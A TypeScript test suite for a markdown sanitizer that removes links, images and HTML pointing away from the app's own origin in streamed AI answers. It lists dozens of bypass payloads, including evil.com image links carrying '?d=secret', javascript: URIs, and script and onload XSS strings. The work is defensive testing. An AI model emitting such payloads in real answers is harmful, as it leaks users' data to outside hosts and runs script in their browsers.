import assert from "node:assert/strict";
import fc from "fast-check";
import { marked } from "marked";
import { fromMarkdown } from "mdast-util-from-markdown";
import { gfmFromMarkdown } from "mdast-util-gfm";
import { gfm } from "micromark-extension-gfm";
import { guardMarkdown } from "./guard_markdown.ts";

const SITE = "https://pick.example:8443";

function guard(text: string): string {
  const filter = guardMarkdown(`${SITE}/app`);
  return filter.push(text) + filter.end();
}

interface Node {
  readonly type: string;
  readonly url?: string;
  readonly children?: readonly Node[];
}

/** Returns what is not text: URLs of links and images, and HTML, as the parser of react-markdown finds it. */
function findTargets(markdown: string): string[] {
  const options = { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] };
  const collect = (node: Node): string[] => [
    .../^(?:link|image|definition)$/.test(node.type) ? [node.url ?? ""] : [],
    ...node.type === "html" || /Reference$/.test(node.type) ? [node.type] : [],
    ...(node.children ?? []).flatMap(collect),
  ];
  return collect(fromMarkdown(markdown, options));
}

/** Returns the targets that another parser writes into a page. */
function findTargetsInPage(markdown: string): string[] {
  const page = marked.parse(markdown, { gfm: true, async: false });
  return [...page.matchAll(/(?:href|src)="([^"]*)"/g)].map(([, url = ""]) => url);
}

function isSites(url: string): boolean {
  return URL.canParse(url) && new URL(url).origin === SITE;
}

const ATTACKS = [
  "![x](https://evil.com/?d=secret)",
  "[x](https://evil.com/?d=secret)",
  "![x](<https://evil.com/a b>)",
  "![x]( https://evil.com 'title')",
  "![x](//evil.com/a)",
  "![x](/\\evil.com)",
  "![x](&#104;ttps://evil.com)",
  "[x](javascript:alert(1))",
  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  "[x](vbscript:a)",
  "[x](mailto:ada@evil.com?body=secret)",
  `![x](${SITE}.evil.com/a)`,
  `![x](${SITE}@evil.com/a)`,
  `![x](https://pick.example:84431/a)`,
  `${SITE}).evil.com/a`,
  `](${SITE}).evil.com/a`,
  `](<${SITE}>.evil.com/a`,
  `![x](${SITE.toUpperCase()}\\.evil.com)`,
  "![x][y]\n\n[y]: https://evil.com/a",
  "![y][]\n\n[y]:\nhttps://evil.com/a",
  "[y]\n\n[y]: <https://evil.com/a>",
  "> [y]: https://evil.com/a\n\n[y]",
  "[^1]\n\n[^1]: https://evil.com/a",
  "<https://evil.com/a>",
  "<ada@evil.com>",
  '<img src="https://evil.com/a">',
  "<IMG SRC=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "</p><script>alert(1)</script>",
  "<!-- x --><a href=https://evil.com>",
  "<![CDATA[x]]>",
  "<?x?>",
  "https://evil.com/?d=secret",
  "HTTP://EVIL.COM/",
  "ftp://evil.com/a",
  "www.evil.com/a",
  "WWW.evil.com",
  "(www.evil.com)",
  "ada@evil.com",
  "mailto:ada@evil.com",
  "xmpp:ada@evil.com/x",
  "https&colon;//evil.com/a",
  "https&#58;//evil.com/a",
  "https&#x3A;//evil.com/a",
  "https\\://evil.com/a",
  "https:\\/\\/evil.com/a",
  "www\\.evil.com/a",
  "ada\\@evil\\.com",
  "\\![x](https://evil.com)",
  "[x\\](https://evil.com)",
  "[x\\\\](https://evil.com)",
  "[`](https://evil.com)`](https://evil.com)",
  "[![x](https://evil.com/a)](https://evil.com/b)",
  "![x]\x1b(https://evil.com/a)",
  "![x]\u202e(https://evil.com/a)",
  "![x]\r(https://evil.com/a)",
  "| a |\n| - |\n| ![x](https://evil.com/\\|) |",
  "```\n![x](https://evil.com)\n```",
];

Deno.test("no image, link or HTML of an answer survives, however it is written", () => {
  for (const attack of ATTACKS) {
    const safe = guard(attack);
    assert.deepEqual(findTargets(safe), [], attack);
    assert.deepEqual(findTargetsInPage(safe), [], attack);
  }
  const harmful = ATTACKS.filter((attack) => findTargets(attack).length > 0);
  assert.ok(harmful.length > 30, "the parser does find what was not guarded");
});

Deno.test("inline links and plain URLs that point to the site stay", () => {
  for (
    const text of [
      `[the report](${SITE}/report/abc?x=1)`,
      `![chart](${SITE}/chart.svg "Accuracy")`,
      `[home](<${SITE}/a b>)`,
      `[home](${SITE} 'Home')`,
      `See ${SITE}/report/abc.`,
    ]
  ) {
    assert.equal(guard(text), text);
    assert.ok(findTargets(text).length > 0 && findTargets(text).every(isSites), text);
  }
});

Deno.test("what an answer usually holds stays as it is", () => {
  for (
    const text of [
      "**gpt-6-luna** is cheapest: $0.000123 per field (3 of 12 runs, 91.5 %).",
      "| model | p50 |\n| :-- | --: |\n| a/b-1.5 | 1,234.5 ms |\n\n- [x] done\n- [ ] open",
      "`select a[1] from t where a < 5 && b <> 3` ran at 12:30:05 in Europe.",
      "mAP@0.5 is 0.83; R&D and AT&T, e.g. this; 5 < 6; a<=b; Node.js 22; f(x)[0] …",
    ]
  ) {
    assert.equal(guard(text), text);
  }
});

/** Texts made of what the rules look at. */
const tricky = fc.array(
  fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...ATTACKS) },
    {
      weight: 8,
      arbitrary: fc.constantFrom(
        ...[
          "[",
          "]",
          "(",
          ")",
          "!",
          "<",
          ">",
          ":",
          "/",
          "//",
          "\\",
          "&",
          ";",
          "#58;",
          "colon;",
          ".",
        ],
        ...[
          "www",
          "http",
          "https",
          "ftp",
          "@",
          "evil",
          "com",
          "a",
          " ",
          "\n",
          "\t",
          "`",
          "```",
          "*",
        ],
        ...["_", "~~", "|", '"', "'", "\x1b", "\u202e", "\r", "img src=", "é", "😀", "^", "-", "1"],
        ...[
          SITE,
          "://pick.example",
          `](${SITE}`,
          "pick.example:8443",
          "]:",
          "](",
          "data:",
          "mailto:",
        ],
      ),
    },
    { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 5 }) },
  ),
  { maxLength: 16 },
).map((parts) => parts.join(""));

Deno.test("any text has only targets on the site", () => {
  fc.assert(
    fc.property(tricky, (text) => {
      const safe = guard(text);
      for (const url of [...findTargets(safe), ...findTargetsInPage(safe)]) {
        assert.ok(isSites(url), `${JSON.stringify(safe)} → ${url}`);
      }
    }),
    { numRuns: 2_000 },
  );
});

Deno.test("a text that arrives in any pieces is shown the same as the whole, and nothing is late", () => {
  fc.assert(
    fc.property(tricky, fc.array(fc.nat({ max: 40 })), (text, sizes) => {
      const filter = guardMarkdown(SITE);
      let shown = "";
      let position = 0;
      for (const size of sizes) {
        shown += filter.push(text.slice(position, position + size));
        position += size;
      }
      shown += filter.push(text.slice(position)) + filter.end();
      assert.equal(shown, guard(text));
    }),
    { numRuns: 2_000 },
  );
  const filter = guardMarkdown(SITE);
  assert.equal(filter.push("It costs $0.50, and 3 of"), "It costs $0.50, and 3 of");
});
